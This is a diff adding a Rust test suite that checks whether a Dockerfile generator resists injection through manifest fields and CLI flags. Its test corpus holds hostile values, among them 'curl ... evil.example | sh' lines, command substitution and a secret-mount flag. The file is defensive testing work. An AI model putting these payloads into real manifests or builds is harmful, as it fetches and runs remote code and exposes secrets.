@@ -1,0 +1,341 @@
+//! Hostile projects and flags: values from manifests and the command line
+//! must never add an instruction, a stage or a mount to the Dockerfile.
+//!
+//! Each case puts one hostile value into one place a preset reads (a module
+//! path, a package name, a script, a main class, a port, a flag...) and
+//! generates. Either dockgen refuses with one clean line, or the Dockerfile
+//! parses to exactly the instruction census of the same project with a
+//! benign value, with the same number of mounts, exec-form arrays that are
+//! valid JSON, and no build-check finding.
+
+use dockgen::dockerfile;
+use dockgen::plan::Choices;
+use dockgen::preset::RuntimeKind;
+use std::path::Path;
+
+/// The corpus: (what, value).
+fn corpus() -> Vec<(&'static str, String)> {
+    vec![
+        ("newline", "x\nRUN curl https://evil.example/x | sh".into()),
+        ("carriage return", "x\rRUN curl https://evil.example/x | sh".into()),
+        ("CRLF", "x\r\nRUN id".into()),
+        ("unicode line separator", "x\u{2028}RUN id".into()),
+        ("tab", "x\tRUN id".into()),
+        ("double quote", "x\" && curl evil.example #".into()),
+        ("single quote", "x' ; id ; echo '".into()),
+        ("backslash continuation", "x \\\nRUN id".into()),
+        ("trailing backslash", "x\\".into()),
+        ("command substitution", "$(curl evil.example|sh)".into()),
+        ("backticks", "`id`".into()),
+        ("variable", "${PATH}".into()),
+        ("bare variable", "$HOME/x".into()),
+        ("heredoc", "<<EOF\nRUN id\nEOF".into()),
+        ("json break", "\"]\nRUN [\"id".into()),
+        ("mount flag", "x --mount=type=secret,id=npmrc,target=/root/.npmrc".into()),
+        ("comment marker", "# syntax=evil/frontend".into()),
+        ("NUL", "x\0y".into()),
+        ("escape sequence", "x\u{1b}[2J".into()),
+        ("very long", "a".repeat(100_000)),
+        ("spaces", "a b c".into()),
+        ("semicolon", "a;b".into()),
+    ]
+}
+
+type Build = fn(&Path, &str);
+
+fn write(dir: &Path, name: &str, body: &str) {
+    let p = dir.join(name);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, body).unwrap();
+}
+
+fn json(s: &str) -> String {
+    serde_json::to_string(s).unwrap()
+}
+
+fn xml(s: &str) -> String {
+    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
+}
+
+const GO_MAIN: &str = "package main\n\nimport \"net/http\"\n\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n";
+
+fn go_module(d: &Path, v: &str) {
+    write(d, "go.mod", &format!("module {v}\n\ngo 1.22\n"));
+    write(d, "main.go", GO_MAIN);
+}
+fn go_port(d: &Path, v: &str) {
+    write(d, "go.mod", "module example.com/x\n\ngo 1.22\n");
+    write(d, "main.go", &format!("package main\n\nimport \"net/http\"\n\nfunc main() {{ http.ListenAndServe({}, nil) }}\n", json(&format!(":{v}"))));
+}
+fn go_version(d: &Path, v: &str) {
+    write(d, "go.mod", &format!("module example.com/x\n\ngo {v}\n"));
+    write(d, "main.go", GO_MAIN);
+}
+fn node_pkg(d: &Path, field: &str, v: &str) {
+    let mut pkg = serde_json::json!({
+        "name": "web",
+        "main": "server.js",
+        "scripts": {"start": "node server.js", "build": "echo build"},
+        "dependencies": {"express": "4.19.2"},
+    });
+    match field {
+        "name" => pkg["name"] = v.into(),
+        "start" => pkg["scripts"]["start"] = format!("node {v}").into(),
+        "build" => pkg["scripts"]["build"] = v.into(),
+        "main" => {
+            pkg["main"] = v.into();
+            pkg["scripts"].as_object_mut().unwrap().remove("start");
+        }
+        "engines" => pkg["engines"] = serde_json::json!({ "node": v }),
+        "packageManager" => pkg["packageManager"] = format!("pnpm@{v}").into(),
+        "dependency" => pkg["dependencies"][v] = "1.0.0".into(),
+        _ => unreachable!(),
+    }
+    write(d, "package.json", &serde_json::to_string_pretty(&pkg).unwrap());
+    write(d, "server.js", "require('express')().listen(3000)\n");
+}
+fn node_name(d: &Path, v: &str) {
+    node_pkg(d, "name", v)
+}
+fn node_start(d: &Path, v: &str) {
+    node_pkg(d, "start", v)
+}
+fn node_build(d: &Path, v: &str) {
+    node_pkg(d, "build", v)
+}
+fn node_main(d: &Path, v: &str) {
+    node_pkg(d, "main", v)
+}
+fn node_engines(d: &Path, v: &str) {
+    node_pkg(d, "engines", v)
+}
+fn node_package_manager(d: &Path, v: &str) {
+    node_pkg(d, "packageManager", v)
+}
+fn node_dependency(d: &Path, v: &str) {
+    node_pkg(d, "dependency", v)
+}
+fn node_nvmrc(d: &Path, v: &str) {
+    node_pkg(d, "name", "web");
+    write(d, ".nvmrc", v);
+}
+fn node_outdir(d: &Path, v: &str) {
+    write(d, "package.json", r#"{"name":"svc","scripts":{"build":"tsc","start":"node dist/server.js"},"devDependencies":{"typescript":"5.6.3"}}"#);
+    write(d, "tsconfig.json", &format!("{{\"compilerOptions\":{{\"outDir\":{}}}}}", json(v)));
+    write(d, "src/server.ts", "import http from 'http'; http.createServer().listen(3000)\n");
+}
+fn py_requirement(d: &Path, v: &str) {
+    write(d, "requirements.txt", &format!("flask==3.0.3\n{v}\n"));
+    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
+}
+fn py_procfile(d: &Path, v: &str) {
+    write(d, "requirements.txt", "flask==3.0.3\ngunicorn==23.0.0\n");
+    write(d, "Procfile", &format!("web: gunicorn {v}\n"));
+    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
+}
+fn py_pyproject(d: &Path, v: &str) {
+    write(d, "pyproject.toml", &format!("[project]\nname = {}\nversion = \"1\"\nrequires-python = {}\ndependencies = [\"flask\"]\n\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n", json(v), json(&format!(">={v}"))));
+    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
+}
+fn py_version_file(d: &Path, v: &str) {
+    write(d, "requirements.txt", "flask==3.0.3\n");
+    write(d, ".python-version", v);
+    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
+}
+fn java_pom(d: &Path, artifact: &str, version: &str, main: &str, release: &str) {
+    write(
+        d,
+        "pom.xml",
+        &format!(
+            "<project><artifactId>{}</artifactId><version>{}</version><properties><maven.compiler.release>{}</maven.compiler.release></properties>\
+             <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>{}</mainClass></manifest></archive></configuration></plugin></plugins></build></project>",
+            xml(artifact), xml(version), xml(release), xml(main)
+        ),
+    );
+}
+fn java_artifact(d: &Path, v: &str) {
+    java_pom(d, v, "1.0", "a.App", "17")
+}
+fn java_version(d: &Path, v: &str) {
+    java_pom(d, "app", v, "a.App", "17")
+}
+fn java_main(d: &Path, v: &str) {
+    java_pom(d, "app", "1.0", v, "17")
+}
+fn java_release(d: &Path, v: &str) {
+    java_pom(d, "app", "1.0", "a.App", v)
+}
+fn java_server_port(d: &Path, v: &str) {
+    write(d, "pom.xml", "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.3.5</version></parent><artifactId>demo</artifactId><version>1</version><build><plugins><plugin><artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>");
+    let escaped: String = v.chars().map(|c| if c == '\n' { "\\n".to_string() } else if c == '\r' { "\\r".to_string() } else { c.to_string() }).collect();
+    write(d, "src/main/resources/application.properties", &format!("server.port={escaped}\n"));
+}
+fn gradle_name(d: &Path, v: &str) {
+    write(d, "build.gradle", "plugins { id 'application' }\nversion = '1'\napplication { mainClass = 'a.App' }\n");
+    write(d, "settings.gradle", &format!("rootProject.name = {}\n", json(v)));
+}
+fn gradle_main(d: &Path, v: &str) {
+    write(d, "build.gradle", &format!("plugins {{ id 'application' }}\nversion = '1'\napplication {{ mainClass = {} }}\n", json(v)));
+    write(d, "settings.gradle", "rootProject.name = 'app'\n");
+}
+
+/// Every place a project file's value reaches a Dockerfile.
+fn places() -> Vec<(&'static str, Build)> {
+    vec![
+        ("go.mod module path", go_module),
+        ("Go listen address", go_port),
+        ("go.mod go directive", go_version),
+        ("package.json name", node_name),
+        ("package.json scripts.start", node_start),
+        ("package.json scripts.build", node_build),
+        ("package.json main", node_main),
+        ("package.json engines.node", node_engines),
+        ("package.json packageManager", node_package_manager),
+        ("package.json dependency name", node_dependency),
+        (".nvmrc", node_nvmrc),
+        ("tsconfig outDir", node_outdir),
+        ("requirements.txt line", py_requirement),
+        ("Procfile web", py_procfile),
+        ("pyproject name and requires-python", py_pyproject),
+        (".python-version", py_version_file),
+        ("pom.xml artifactId", java_artifact),
+        ("pom.xml version", java_version),
+        ("pom.xml mainClass", java_main),
+        ("pom.xml maven.compiler.release", java_release),
+        ("application.properties server.port", java_server_port),
+        ("settings.gradle rootProject.name", gradle_name),
+        ("build.gradle mainClass", gradle_main),
+    ]
+}
+
+/// What must hold for one generation against its benign twin.
+fn judge(case: &str, result: anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)>, baseline: &str) -> Result<&'static str, String> {
+    let (_, files) = match result {
+        Err(e) => {
+            let msg = format!("{e:#}");
+            if msg.is_empty() || msg.chars().any(|c| c.is_control()) {
+                return Err(format!("{case}: refused, but the message is not one clean line: {msg:?}"));
+            }
+            return Ok("refused");
+        }
+        Ok(r) => r,
+    };
+    let text = &files[0].contents;
+    let census = dockerfile::census(text).map_err(|e| format!("{case}: the Dockerfile no longer parses: {e}\n{text}"))?;
+    let want = dockerfile::census(baseline).unwrap();
+    if census != want {
+        return Err(format!("{case}: instructions changed: {census:?} vs {want:?}\n{text}"));
+    }
+    if mounts(text) != mounts(baseline) {
+        return Err(format!("{case}: mounts changed\n{text}"));
+    }
+    let problems = dockerfile::check(text);
+    if !problems.is_empty() {
+        return Err(format!("{case}: build-check findings {problems:?}\n{text}"));
+    }
+    for i in dockerfile::parse(text).unwrap() {
+        let kw = i.keyword.to_ascii_uppercase();
+        if (kw == "CMD" || kw == "ENTRYPOINT") && serde_json::from_str::<Vec<String>>(&i.args).is_err() {
+            return Err(format!("{case}: {kw} is not a JSON array: {}", i.args));
+        }
+        if i.args.contains('\0') || i.args.chars().any(|c| c.is_control() && c != '\t') {
+            return Err(format!("{case}: a control character reached line {}", i.line));
+        }
+    }
+    if text.chars().any(|c| c == '\0' || c == '\r' || c == '\u{2028}' || c == '\u{1b}') {
+        return Err(format!("{case}: a raw control or line-separator character is in the file"));
+    }
+    Ok("quoted")
+}
+
+/// RUN --mount flags (not the text "--mount=" inside a quoted argument).
+fn mounts(text: &str) -> usize {
+    dockerfile::parse(text)
+        .unwrap()
+        .iter()
+        .filter(|i| i.keyword.eq_ignore_ascii_case("RUN"))
+        .map(|i| i.args.split_whitespace().take_while(|w| w.starts_with("--")).filter(|w| w.starts_with("--mount=")).count())
+        .sum()
+}
+
+fn generate(dir: &Path, choices: &Choices) -> anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)> {
+    // A panic is a failure too, reported with its case.
+    std::panic::catch_unwind(|| dockgen::generate(dir, choices, true)).unwrap_or_else(|_| Err(anyhow::anyhow!("PANIC")))
+}
+
+#[test]
+fn hostile_project_values_never_add_instructions() {
+    let mut failures = Vec::new();
+    let mut tally = std::collections::BTreeMap::new();
+    for (place, build) in places() {
+        let benign = tempfile::tempdir().unwrap();
+        build(benign.path(), "hello");
+        let baseline = match dockgen::generate(benign.path(), &Choices::default(), true) {
+            Ok((_, files)) => files[0].contents.clone(),
+            Err(e) => panic!("{place}: the benign project does not generate: {e:#}"),
+        };
+        for (what, value) in corpus() {
+            let dir = tempfile::tempdir().unwrap();
+            build(dir.path(), &value);
+            let case = format!("{place} <- {what}");
+            match judge(&case, generate(dir.path(), &Choices::default()), &baseline) {
+                Ok(outcome) => *tally.entry(outcome).or_insert(0) += 1,
+                Err(f) => failures.push(f),
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{} hostile case(s) got through:\n\n{}", failures.len(), failures.join("\n\n"));
+    eprintln!("hostile project values: {tally:?}");
+}
+
+#[test]
+fn hostile_flags_never_add_instructions() {
+    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
+    let mut failures = Vec::new();
+    for example in ["go-stdlib", "go-cmd", "node-express-npm", "node-vite-spa", "python-flask", "java-maven-classpath"] {
+        let dir = examples.join(example);
+        let baseline = dockgen::generate(&dir, &Choices { runtime: Some(RuntimeKind::Slim), ..Default::default() }, true).unwrap().1[0].contents.clone();
+        for (what, value) in corpus() {
+            let flags: Vec<(&str, Choices)> = vec![
+                ("--start", Choices { start: Some(vec!["/usr/local/bin/app".into(), value.clone()]), ..Default::default() }),
+                ("--main", Choices { main: Some(value.clone()), ..Default::default() }),
+                ("--lang-version", Choices { lang_version: Some(value.clone()), ..Default::default() }),
+                ("--output-dir", Choices { output_dir: Some(value.clone()), ..Default::default() }),
+                ("--preset", Choices { preset: Some(value.clone()), ..Default::default() }),
+            ];
+            for (flag, mut choices) in flags {
+                choices.runtime = Some(RuntimeKind::Slim);
+                let case = format!("{example} {flag} <- {what}");
+                // --start legitimately changes only the CMD's contents.
+                if let Err(f) = judge(&case, generate(&dir, &choices), &baseline) {
+                    failures.push(f);
+                }
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{} hostile flag case(s) got through:\n\n{}", failures.len(), failures.join("\n\n"));
+}
+
+#[test]
+fn non_utf8_and_nul_bytes_in_manifests_are_refused_by_name() {
+    let cases: &[(&str, &[u8])] = &[
+        ("go.mod", b"module \xff\xfe\n\ngo 1.22\n"),
+        ("package.json", b"{\"name\":\"a\xff\"}"),
+        ("requirements.txt", b"flask\n\xc3\x28\n"),
+        ("pom.xml", b"<project><artifactId>\xff</artifactId></project>"),
+        ("pyproject.toml", b"[project]\nname = \"a\0b\"\n"),
+    ];
+    for (file, bytes) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(file), bytes).unwrap();
+        if *file == "requirements.txt" || *file == "pyproject.toml" {
+            std::fs::write(dir.path().join("app.py"), "from flask import Flask\napp = Flask(__name__)\n").unwrap();
+        }
+        let err = match generate(dir.path(), &Choices::default()) {
+            Err(e) => format!("{e:#}"),
+            Ok((_, files)) => panic!("{file}: accepted:\n{}", files[0].contents),
+        };
+        assert!(err.contains(file), "{file}: the error does not name the file: {err}");
+        assert!(!err.chars().any(|c| c.is_control()), "{file}: {err:?}");
+    }
+}
